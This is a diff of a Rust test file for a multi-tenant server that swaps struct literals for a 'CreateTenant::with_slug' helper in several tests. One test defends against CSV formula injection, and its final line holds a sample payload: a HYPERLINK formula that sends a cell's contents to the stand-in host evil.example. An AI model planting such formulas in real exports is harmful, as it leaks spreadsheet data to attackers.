@@ -37,7 +37,7 @@ fn control_db(server: &TestServer) -> rusqlite::Connection {
 /// An account that owns workspace `slug`, made directly (no sign-up flow).
 async fn owner(server: &TestServer, email: &str, slug: &str) {
     server.accounts.users().create(email, PASSWORD, None, "test").await.unwrap();
-    let request = silo_tenancy::CreateTenant { slug: slug.into(), ..Default::default() };
+    let request = silo_tenancy::CreateTenant::with_slug(slug);
     server.tenancy.tenants().create(request, "test").await.unwrap();
     server.accounts.memberships().add(&slug.parse().unwrap(), email, Role::Owner, "test").await.unwrap();
 }
@@ -605,10 +605,7 @@ async fn operator_sql_reads_only_the_tenants_own_file() {
     let server = TestServer::start().await.unwrap();
     let t = &server.tenancy;
     for slug in ["acme", "other"] {
-        t.tenants()
-            .create(silo_tenancy::CreateTenant { slug: slug.into(), ..Default::default() }, "test")
-            .await
-            .unwrap();
+        t.tenants().create(silo_tenancy::CreateTenant::with_slug(slug), "test").await.unwrap();
     }
     let other = t.tenant(&"other".parse().unwrap()).await.unwrap();
     let other_path = t.tenant_path(&other).unwrap();
@@ -688,11 +685,7 @@ async fn refused_forms_log_the_route_not_the_token() {
 async fn exported_csv_cells_do_not_run_as_formulas() {
     let server = TestServer::start().await.unwrap();
     let t = &server.tenancy;
-    let acme = t
-        .tenants()
-        .create(silo_tenancy::CreateTenant { slug: "acme".into(), ..Default::default() }, "test")
-        .await
-        .unwrap();
+    let acme = t.tenants().create(silo_tenancy::CreateTenant::with_slug("acme"), "test").await.unwrap();
     let db = t.db(acme.id).await.unwrap();
     let project = silo_workspace::projects::create(&db, "P", "", None).unwrap();
     let title = r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#;
